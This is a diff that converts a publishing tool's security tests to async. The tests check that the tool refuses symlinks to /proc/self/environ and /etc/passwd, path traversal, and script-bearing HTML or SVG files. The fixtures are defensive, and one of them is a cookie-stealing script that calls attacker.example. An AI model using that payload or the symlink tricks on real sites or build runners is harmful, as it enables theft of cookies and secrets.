@@ -34,8 +34,8 @@ function refusal(file: string, place: string, message: string, rule = 'published
   return `${file}\n${place} error ${message} ${rule} charter\n\n✖ 1 error\ncharter: build refused: \`charter check\` finds 1 error; fix it and build again, or pass --allow-errors for a bundle marked unofficial\n`
 }
 
-function expectRefused(root: string, stderr: string): void {
-  const run = charter(['build'], root)
+async function expectRefused(root: string, stderr: string): Promise<void> {
+  const run = await charter(['build'], root)
   expect(run.stderr).toBe(stderr)
   expect(run.stdout).toBe('')
   expect(run.status).toBe(1)
@@ -44,8 +44,8 @@ function expectRefused(root: string, stderr: string): void {
 }
 
 /** Built anyway: the hostile file is not in the bundle, and nothing in it holds its bytes. */
-function expectLeftOut(root: string, secret: string): void {
-  const run = charter(['build', '--no-pdf', '--allow-errors'], root)
+async function expectLeftOut(root: string, secret: string): Promise<void> {
+  const run = await charter(['build', '--no-pdf', '--allow-errors'], root)
   expect(run.status).toBe(0)
   const manifest = JSON.parse(readFileSync(join(root, 'dist/manifest.json'), 'utf8'))
   expect(Object.keys(manifest.files).filter((path: string) => path.startsWith('site/files/') || path.startsWith('site/logo'))).toEqual([])
@@ -58,118 +58,118 @@ const at = (target: string, text: string) => `16:5-16:${5 + `[${text}](${target}
 
 describe('attachments', () => {
   // A symbolic link to the CI runner's environment, tokens included, named like evidence.
-  it('refuses a symlink to /proc/self/environ', () => {
+  it('refuses a symlink to /proc/self/environ', async () => {
     const root = repository(purposeLink('environment', 'env.txt'))
     symlinkSync('/proc/self/environ', join(root, 'policies/env.txt'))
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', at('env.txt', 'environment'), 'Unexpected symbolic link `policies/env.txt`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
-    const check = charter(['check', '--today', '2026-11-20', '--format', 'json'], root)
+    await expectRefused(root, refusal('policies/alpha.md', at('env.txt', 'environment'), 'Unexpected symbolic link `policies/env.txt`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
+    const check = await charter(['check', '--today', '2026-11-20', '--format', 'json'], root)
     expect(check.status).toBe(1)
     expect(JSON.parse(check.stdout).findings.map((finding: {rule: string; line: number; column: number}) => `${finding.rule} ${finding.line}:${finding.column}`)).toEqual(['published-files 16:5'])
-    expectLeftOut(root, 'PATH=')
+    await expectLeftOut(root, 'PATH=')
   })
 
   // The runner's password file, published on the security page.
-  it('refuses a symlink to /etc/passwd', () => {
+  it('refuses a symlink to /etc/passwd', async () => {
     const root = repository(purposeLink('accounts', 'accounts.txt'))
     symlinkSync('/etc/passwd', join(root, 'policies/accounts.txt'))
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', at('accounts.txt', 'accounts'), 'Unexpected symbolic link `policies/accounts.txt`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
-    expectLeftOut(root, 'root:x:0:0')
+    await expectRefused(root, refusal('policies/alpha.md', at('accounts.txt', 'accounts'), 'Unexpected symbolic link `policies/accounts.txt`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
+    await expectLeftOut(root, 'root:x:0:0')
   })
 
   // An endless device: copying it would hang the publish job while memory grows.
-  it('refuses a symlink to /dev/zero without reading it', () => {
+  it('refuses a symlink to /dev/zero without reading it', async () => {
     const root = repository(purposeLink('data', 'data.csv'))
     symlinkSync('/dev/zero', join(root, 'policies/data.csv'))
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', at('data.csv', 'data'), 'Unexpected symbolic link `policies/data.csv`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
+    await expectRefused(root, refusal('policies/alpha.md', at('data.csv', 'data'), 'Unexpected symbolic link `policies/data.csv`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
   })
 
   // A hard link gives a file outside policies/ a second name inside it.
-  it('refuses a hard link', () => {
+  it('refuses a hard link', async () => {
     const root = repository(purposeLink('copy', 'copy.txt'), {'private/keys.txt': 'secret key material\n'})
     linkSync(join(root, 'private/keys.txt'), join(root, 'policies/copy.txt'))
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', at('copy.txt', 'copy'), 'Unexpected hard link `policies/copy.txt` (the file has 2 names on disk), expected a file of its own; replace it with a copy'))
+    await expectRefused(root, refusal('policies/alpha.md', at('copy.txt', 'copy'), 'Unexpected hard link `policies/copy.txt` (the file has 2 names on disk), expected a file of its own; replace it with a copy'))
   })
 
   // A named pipe blocks whoever opens it for reading until a writer comes: check and build hang.
-  it('refuses a named pipe without waiting on it', () => {
+  it('refuses a named pipe without waiting on it', async () => {
     const root = repository(purposeLink('feed', 'feed.txt'))
     commit(root)
     execFileSync('mkfifo', [join(root, 'policies/feed.txt')])
-    expectRefused(root, refusal('policies/alpha.md', at('feed.txt', 'feed'), 'Unexpected named pipe `policies/feed.txt`, expected a regular file; replace it with the file itself'))
+    await expectRefused(root, refusal('policies/alpha.md', at('feed.txt', 'feed'), 'Unexpected named pipe `policies/feed.txt`, expected a regular file; replace it with the file itself'))
   })
 
   // A named pipe as a document: reading it would hang check before any rule ran.
-  it('reports a named pipe named like a document, and checks the others', () => {
+  it('reports a named pipe named like a document, and checks the others', async () => {
     const root = repository('Text for purpose.')
     commit(root)
     execFileSync('mkfifo', [join(root, 'policies/beta.md')])
-    const run = charter(['check', '--today', '2026-11-20'], root)
+    const run = await charter(['check', '--today', '2026-11-20'], root)
     expect(run.stdout).toBe('policies/beta.md\n1:1-1:1 error Unexpected named pipe, expected a regular file; replace it with the document itself file-readable charter\n\n✖ 1 error\n')
     expect(run.status).toBe(1)
   })
 
   // An HTML page as evidence runs its script on the security page's origin.
-  it('refuses an .html attachment, advising PDF', () => {
+  it('refuses an .html attachment, advising PDF', async () => {
     const root = repository(purposeLink('evidence', 'evidence.html'), {'policies/evidence.html': '<!doctype html><script>fetch("https://attacker.example/?c=" + document.cookie)</script>\n'})
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', at('evidence.html', 'evidence'), 'Unexpected `.html` attachment `policies/evidence.html`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; convert it to PDF'))
-    expectLeftOut(root, 'attacker.example')
+    await expectRefused(root, refusal('policies/alpha.md', at('evidence.html', 'evidence'), 'Unexpected `.html` attachment `policies/evidence.html`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; convert it to PDF'))
+    await expectLeftOut(root, 'attacker.example')
   })
 
   // An SVG is an image that can hold <script> and event handlers.
-  it('refuses an SVG attachment holding script', () => {
+  it('refuses an SVG attachment holding script', async () => {
     const root = repository('The ![diagram](diagram.svg) shows the flow.', {'policies/diagram.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n'})
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', '16:5-16:28', 'Unexpected `.svg` attachment `policies/diagram.svg`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; export it as PNG'))
-    expectLeftOut(root, 'alert(')
+    await expectRefused(root, refusal('policies/alpha.md', '16:5-16:28', 'Unexpected `.svg` attachment `policies/diagram.svg`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; export it as PNG'))
+    await expectLeftOut(root, 'alert(')
   })
 
   // HTML named .png passes an extension check; the leading bytes give it away.
-  it('refuses a .png attachment whose content is HTML', () => {
+  it('refuses a .png attachment whose content is HTML', async () => {
     const root = repository('The ![screenshot](screenshot.png) shows the setting.', {'policies/screenshot.png': '<html><body onload="alert(1)"></body></html>\n'})
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', '16:5-16:34', 'Unexpected HTML content in `policies/screenshot.png`, expected a PNG image as its extension says; export it again as PNG'))
+    await expectRefused(root, refusal('policies/alpha.md', '16:5-16:34', 'Unexpected HTML content in `policies/screenshot.png`, expected a PNG image as its extension says; export it again as PNG'))
   })
 
   // A huge file: the page is for reading, and a build must stay bounded.
-  it('refuses an attachment over 10 MB', () => {
+  it('refuses an attachment over 10 MB', async () => {
     const root = repository(purposeLink('scan', 'scan.pdf'), {'policies/scan.pdf': Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(10 * 1024 * 1024)])})
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', at('scan.pdf', 'scan'), 'Unexpected 10 MB attachment `policies/scan.pdf`, expected one under 10 MB; make it smaller, or link to it with a full https:// URL'))
+    await expectRefused(root, refusal('policies/alpha.md', at('scan.pdf', 'scan'), 'Unexpected 10 MB attachment `policies/scan.pdf`, expected one under 10 MB; make it smaller, or link to it with a full https:// URL'))
   })
 
   // `[text][ref]` with `[ref]: page.html` hides the address in a definition.
-  it('refuses an HTML attachment named in a reference definition', () => {
+  it('refuses an HTML attachment named in a reference definition', async () => {
     const root = repository('The [evidence][e] is attached.\n\n[e]: page.html', {'policies/page.html': '<script>alert(1)</script>\n'})
     commit(root)
-    expectRefused(root, refusal('policies/alpha.md', '18:1-18:15', 'Unexpected `.html` attachment `policies/page.html`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; convert it to PDF'))
-    expectLeftOut(root, 'alert(')
+    await expectRefused(root, refusal('policies/alpha.md', '18:1-18:15', 'Unexpected `.html` attachment `policies/page.html`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; convert it to PDF'))
+    await expectLeftOut(root, 'alert(')
   })
 
   // `../` climbs out of policies/ to a file the bundle should never hold.
-  it('refuses a ../ link to a file outside policies/', () => {
+  it('refuses a ../ link to a file outside policies/', async () => {
     const root = repository(purposeLink('keys', '../private/keys.txt'), {'private/keys.txt': 'secret key material\n'})
     commit(root)
-    expectRefused(
+    await expectRefused(
       root,
       refusal('policies/alpha.md', at('../private/keys.txt', 'keys'), 'Unexpected link to `../private/keys.txt` outside policies/: the published bundle holds documents only; link with a full https:// URL instead', 'links')
     )
-    expectLeftOut(root, 'secret key material')
+    await expectLeftOut(root, 'secret key material')
   })
 
   // The same climb, percent-encoded so that a check on the raw text misses it.
-  it('refuses a percent-encoded %2e%2e%2f link out of policies/', () => {
+  it('refuses a percent-encoded %2e%2e%2f link out of policies/', async () => {
     const root = repository(purposeLink('keys', '%2e%2e%2fprivate%2fkeys.txt'), {'private/keys.txt': 'secret key material\n'})
     commit(root)
-    expectRefused(
+    await expectRefused(
       root,
       refusal('policies/alpha.md', at('%2e%2e%2fprivate%2fkeys.txt', 'keys'), 'Unexpected link to `%2e%2e%2fprivate%2fkeys.txt` outside policies/: the published bundle holds documents only; link with a full https:// URL instead', 'links')
     )
-    expectLeftOut(root, 'secret key material')
+    await expectLeftOut(root, 'secret key material')
   })
 })
 
@@ -178,61 +178,61 @@ describe('the logo', () => {
   const withLogo = (files: Record<string, string | Uint8Array> = {}) => repository('Text for purpose.', files, 'branding:\n  logo: assets/logo.png\n')
 
   // branding.logo pointing, through a link, at the runner's environment.
-  it('refuses a logo that is a symlink to /proc/self/environ', () => {
+  it('refuses a logo that is a symlink to /proc/self/environ', async () => {
     const root = withLogo()
     mkdirSync(join(root, 'assets'))
     symlinkSync('/proc/self/environ', join(root, 'assets/logo.png'))
     commit(root)
-    expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
-    expectLeftOut(root, 'PATH=')
+    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
+    await expectLeftOut(root, 'PATH=')
   })
 
   // The logo as a link to /etc/passwd.
-  it('refuses a logo that is a symlink to /etc/passwd', () => {
+  it('refuses a logo that is a symlink to /etc/passwd', async () => {
     const root = withLogo()
     mkdirSync(join(root, 'assets'))
     symlinkSync('/etc/passwd', join(root, 'assets/logo.png'))
     commit(root)
-    expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
-    expectLeftOut(root, 'root:x:0:0')
+    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
+    await expectLeftOut(root, 'root:x:0:0')
   })
 
   // The logo as a link to /dev/zero, which would hang the build.
-  it('refuses a logo that is a symlink to /dev/zero', () => {
+  it('refuses a logo that is a symlink to /dev/zero', async () => {
     const root = withLogo()
     mkdirSync(join(root, 'assets'))
     symlinkSync('/dev/zero', join(root, 'assets/logo.png'))
     commit(root)
-    expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
+    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
   })
 
   // An SVG logo keeps its onload handler on every page.
-  it('refuses an SVG logo', () => {
+  it('refuses an SVG logo', async () => {
     const root = repository('Text for purpose.', {'assets/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'}, 'branding:\n  logo: assets/logo.svg\n')
     commit(root)
-    expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected `.svg` logo `assets/logo.svg`, expected PNG or JPEG (an SVG can carry script); export it as PNG'))
-    expectLeftOut(root, 'alert(')
+    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected `.svg` logo `assets/logo.svg`, expected PNG or JPEG (an SVG can carry script); export it as PNG'))
+    await expectLeftOut(root, 'alert(')
   })
 
   // A logo that does not exist used to pass check and crash build.
-  it('refuses a missing logo at check time', () => {
+  it('refuses a missing logo at check time', async () => {
     const root = withLogo()
     commit(root)
-    expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected `branding.logo` `assets/logo.png`: no such file in the repository; add the image, or remove `branding.logo`'))
+    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected `branding.logo` `assets/logo.png`: no such file in the repository; add the image, or remove `branding.logo`'))
   })
 
   // A folder named like an image used to pass check and crash build.
-  it('refuses a folder as the logo', () => {
+  it('refuses a folder as the logo', async () => {
     const root = withLogo({'assets/logo.png/readme.txt': 'not an image\n'})
     commit(root)
-    expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected folder `assets/logo.png` as `branding.logo`, expected a PNG or JPEG file; name the image itself, e.g. `assets/logo.png/logo.png`'))
+    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected folder `assets/logo.png` as `branding.logo`, expected a PNG or JPEG file; name the image itself, e.g. `assets/logo.png/logo.png`'))
   })
 
   // For contrast: a real PNG is published.
-  it('publishes a PNG logo', () => {
+  it('publishes a PNG logo', async () => {
     const root = withLogo({'assets/logo.png': onePixelPng})
     commit(root)
-    const run = charter(['build', '--no-pdf'], root)
+    const run = await charter(['build', '--no-pdf'], root)
     expect(run.stderr).toBe('')
     expect(run.status).toBe(0)
     expect(readFileSync(join(root, 'dist/site/logo.png'))).toEqual(onePixelPng)
@@ -247,25 +247,25 @@ describe('document ids and the bundle', () => {
     ['controls', 'site/controls.html'],
     ['changelog', 'site/changelog.html'],
     ['security-policies', 'pdf/security-policies.pdf']
-  ])('keeps a document with id `%s` from replacing %s', (id, own) => {
+  ])('keeps a document with id `%s` from replacing %s', async (id, own) => {
     const root = makeRepo({'policies/alpha.md': policy('alpha', {title: 'Alpha Policy', last_reviewed: '2026-11-02'}), [`policies/${id}.md`]: policy(id, {title: 'Impostor Page', last_reviewed: '2026-11-02'}), 'charter.config.yaml': baseConfig, '.gitignore': 'dist/\n'})
     commit(root)
     const pdf = own.endsWith('.pdf')
-    const run = charter(['build', ...(pdf ? [] : ['--no-pdf'])], root)
+    const run = await charter(['build', ...(pdf ? [] : ['--no-pdf'])], root)
     expect(run.status).toBe(0)
     const manifest = JSON.parse(readFileSync(join(root, 'dist/manifest.json'), 'utf8'))
     expect(manifest.documents.find((document: {id: string}) => document.id === id)).toMatchObject({page: `site/documents/${id}.html`, pdf: pdf ? `pdf/documents/${id}.pdf` : null})
     expect(readFileSync(join(root, 'dist/site/documents', `${id}.html`), 'utf8')).toContain('<h1>Impostor Page</h1>')
     if (pdf) expect(readFileSync(join(root, 'dist', own)).length).toBeGreaterThan(readFileSync(join(root, 'dist/pdf/documents', `${id}.pdf`)).length)
     else expect(readFileSync(join(root, 'dist', own), 'utf8')).not.toContain('<h1>Impostor Page</h1>')
-    expect(charter(['verify', 'dist'], root).status).toBe(0)
+    expect((await charter(['verify', 'dist'], root)).status).toBe(0)
   })
 
   // A web-app manifest.json in docs/ made build take the folder for its own and delete the rest.
-  it('refuses --out at a folder whose manifest.json is not charter\'s', () => {
+  it('refuses --out at a folder whose manifest.json is not charter\'s', async () => {
     const root = repository('Text for purpose.', {'docs/manifest.json': '{"name": "Example app", "icons": []}\n', 'docs/guide.md': '# Guide\n'})
     commit(root)
-    const run = charter(['build', '--no-pdf', '--out', 'docs'], root)
+    const run = await charter(['build', '--no-pdf', '--out', 'docs'], root)
     expect(run.stderr).toBe('charter: docs/manifest.json is not a manifest written by `charter build`, so docs is not a bundle; choose another --out, or empty it\n')
     expect(run.status).toBe(1)
     expect(readdirSync(join(root, 'docs')).sort()).toEqual(['guide.md', 'manifest.json'])
@@ -273,22 +273,22 @@ describe('document ids and the bundle', () => {
   })
 
   // A manifest copied from a real bundle does not make the folder's other files charter's.
-  it('refuses --out at a folder holding files its charter manifest does not list', () => {
+  it('refuses --out at a folder holding files its charter manifest does not list', async () => {
     const root = repository('Text for purpose.', {'docs/guide.md': '# Guide\n', 'docs/notes/todo.md': 'keep\n', 'docs/extra.txt': 'keep\n'})
     commit(root)
-    expect(charter(['build', '--no-pdf', '--out', 'built'], root).status).toBe(0)
+    expect((await charter(['build', '--no-pdf', '--out', 'built'], root)).status).toBe(0)
     writeFileSync(join(root, 'docs/manifest.json'), readFileSync(join(root, 'built/manifest.json')))
-    const run = charter(['build', '--no-pdf', '--out', 'docs'], root)
+    const run = await charter(['build', '--no-pdf', '--out', 'docs'], root)
     expect(run.stderr).toBe('charter: docs holds 3 files its manifest does not list (`extra.txt`, `guide.md`, `notes/todo.md`), so replacing the bundle would delete them; move them away, or choose another --out\n')
     expect(run.status).toBe(1)
     expect(readdirSync(join(root, 'docs')).sort()).toEqual(['extra.txt', 'guide.md', 'manifest.json', 'notes'])
   })
 
   // --out naming a file crashed with an internal error.
-  it('refuses --out at a file as a usage error', () => {
+  it('refuses --out at a file as a usage error', async () => {
     const root = repository('Text for purpose.', {'notes.txt': 'keep me\n'})
     commit(root)
-    const run = charter(['build', '--out', 'notes.txt'], root)
+    const run = await charter(['build', '--out', 'notes.txt'], root)
     expect(run.stderr).toBe('charter: build: --out notes.txt is a file, expected a folder for the bundle; pass another --out, e.g. --out dist\n')
     expect(run.status).toBe(2)
     expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('keep me\n')
@@ -296,20 +296,20 @@ describe('document ids and the bundle', () => {
   })
 
   // --out inside a file: the write fails part-way, which crashed with an internal error.
-  it('refuses --out below a file in one line, leaving nothing behind', () => {
+  it('refuses --out below a file in one line, leaving nothing behind', async () => {
     const root = repository('Text for purpose.', {'notes.txt': 'keep me\n'})
     commit(root)
-    const run = charter(['build', '--no-pdf', '--out', 'notes.txt/dist'], root)
+    const run = await charter(['build', '--no-pdf', '--out', 'notes.txt/dist'], root)
     expect(run.stderr).toBe('charter: build: ENOTDIR: a part of the path is a file, not a folder while writing the bundle to notes.txt/dist; pass an --out whose parent folders are folders. Nothing was replaced\n')
     expect(run.status).toBe(1)
     expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('keep me\n')
   })
 
   // A fork's layout without the Content-Security-Policy would let any planted script run.
-  it('refuses a site layout that drops the Content-Security-Policy', () => {
+  it('refuses a site layout that drops the Content-Security-Policy', async () => {
     const root = repository('Text for purpose.', {'templates/site/layout.hbs': '<!doctype html>\n<html lang="en">\n<head>\n<title>{{pageTitle}}</title>\n</head>\n<body>{{{content}}}<script>alert(1)</script></body>\n</html>\n'})
     commit(root)
-    const run = charter(['build', '--no-pdf'], root)
+    const run = await charter(['build', '--no-pdf'], root)
     expect(run.stderr).toBe(
       'charter: templates/site/layout.hbs: Unexpected page head, expected it to open with <meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'self\'; img-src \'self\'; base-uri \'none\'; form-action \'none\'"> (after <meta charset="utf-8">), so no script on the page runs; restore that line from Charter\'s layout.hbs\n'
     )
@@ -319,51 +319,51 @@ describe('document ids and the bundle', () => {
   })
 
   // A bundle whose file is a link to a copy elsewhere: verify read through the link and vouched for it.
-  it('does not let verify vouch for a file outside the bundle through a symlink', () => {
+  it('does not let verify vouch for a file outside the bundle through a symlink', async () => {
     const root = repository('Text for purpose.')
     commit(root)
-    expect(charter(['build', '--no-pdf'], root).status).toBe(0)
+    expect((await charter(['build', '--no-pdf'], root)).status).toBe(0)
     writeFileSync(join(root, 'elsewhere.css'), readFileSync(join(root, 'dist/site/style.css')))
     rmSync(join(root, 'dist/site/style.css'))
     symlinkSync(join(root, 'elsewhere.css'), join(root, 'dist/site/style.css'))
-    const run = charter(['verify', 'dist'], root)
+    const run = await charter(['verify', 'dist'], root)
     expect(run.stdout).toBe('dist: 1 problem\n  site/style.css: not a regular file (a symbolic link, or a device); a bundle holds files only\n')
     expect(run.status).toBe(1)
   })
 
   // A fork template linked to the runner's environment would be rendered into every page.
-  it('refuses a template that is a symlink to /proc/self/environ', () => {
+  it('refuses a template that is a symlink to /proc/self/environ', async () => {
     const root = repository('Text for purpose.')
     mkdirSync(join(root, 'templates/site'), {recursive: true})
     symlinkSync('/proc/self/environ', join(root, 'templates/site/style.css'))
     commit(root)
     // check reports it (so CI stops the pull request), and build refuses on check's word.
-    const checked = charter(['check', '--today', '2026-12-01', '--format', 'github'], root)
+    const checked = await charter(['check', '--today', '2026-12-01', '--format', 'github'], root)
     expect(checked.stdout).toBe(
       '::error file=templates/site/style.css,line=1,col=1,endLine=1,endColumn=1,title=site-templates::Unexpected symbolic link, expected a regular file: a template is published as part of every page; copy the file instead of linking to it\ncharter: 1 document checked, 1 error, 0 warnings\n'
     )
     expect(checked.status).toBe(1)
-    const run = charter(['build', '--no-pdf'], root)
+    const run = await charter(['build', '--no-pdf'], root)
     expect(run.stderr.split('\n').slice(-2)).toEqual(['charter: build refused: `charter check` finds 1 error; fix it and build again, or pass --allow-errors for a bundle marked unofficial', ''])
     expect(run.status).toBe(1)
     // Even with --allow-errors the build never reads through the link.
-    const forced = charter(['build', '--no-pdf', '--allow-errors'], root)
+    const forced = await charter(['build', '--no-pdf', '--allow-errors'], root)
     expect(forced.stderr).toBe('charter: templates/site/style.css: Unexpected symbolic link, expected a regular file: a template is published as part of every page; copy the file instead of linking to it\n')
     expect(forced.status).toBe(1)
     expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
   })
 
   // policies/ itself as a link: check and build would walk, and publish from, wherever it points.
-  it('refuses a documents folder that is a symlink', () => {
+  it('refuses a documents folder that is a symlink', async () => {
     const root = makeRepo({'elsewhere/alpha.md': policy('alpha', {last_reviewed: '2026-11-02'}), 'charter.config.yaml': baseConfig, '.gitignore': 'dist/\n'})
     symlinkSync('elsewhere', join(root, 'policies'))
     commit(root)
     const message = 'policies/ is a symbolic link, expected the folder itself inside the repository; replace the link with the documents'
-    const build = charter(['build', '--no-pdf'], root)
+    const build = await charter(['build', '--no-pdf'], root)
     expect(build.stderr).toBe(`charter: build: ${message}\n`)
     expect(build.status).toBe(2)
     expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
-    const check = charter(['check'], root)
+    const check = await charter(['check'], root)
     expect(check.stderr).toBe(`charter: check: ${message}\n`)
     expect(check.status).toBe(2)
   })
